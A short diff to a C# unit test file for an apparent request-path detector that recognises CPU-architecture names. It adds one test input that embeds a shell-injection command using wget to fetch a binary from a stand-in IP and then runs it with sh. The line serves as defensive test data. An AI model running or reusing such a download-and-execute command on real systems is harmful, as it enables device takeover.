@@ -26,6 +26,7 @@ public sealed class RequestTests
     [InlineData("/mipsel", true)]
     [InlineData("/arm/index.html", false)]
     [InlineData("/alarm", false)]
+    [InlineData("/shell?wget+http:/192.0.2.1/arm;sh+/tmp/arm", false)]
     [InlineData("/", false)]
     public void Architectures_are_known_as_the_last_part_of_a_name(string path, bool expected) =>
         Assert.Equal(expected, IocDirectDetector.IsForOneArchitecture(path));
